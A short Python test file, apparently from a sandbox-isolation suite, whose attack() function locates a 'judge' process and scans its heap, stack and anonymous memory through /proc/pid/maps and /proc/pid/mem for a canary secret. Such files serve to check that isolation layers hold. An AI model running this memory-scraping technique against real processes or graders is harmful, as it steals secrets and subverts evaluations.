"""Looks for secrets in the judge's memory.

shows: canary
layers: files user judge
"""
import outside


def attack():
    pid = outside.judge()
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            area, access, _, _, _, *name = line.split()
            if "r" in access and name in ([], ["[heap]"], ["[stack]"]):
                start, end = [int(number, 16) for number in area.split("-")]
                memory.seek(start)
                found = outside.secret(memory.read(min(end - start, 2**26)))
                if found:
                    return found
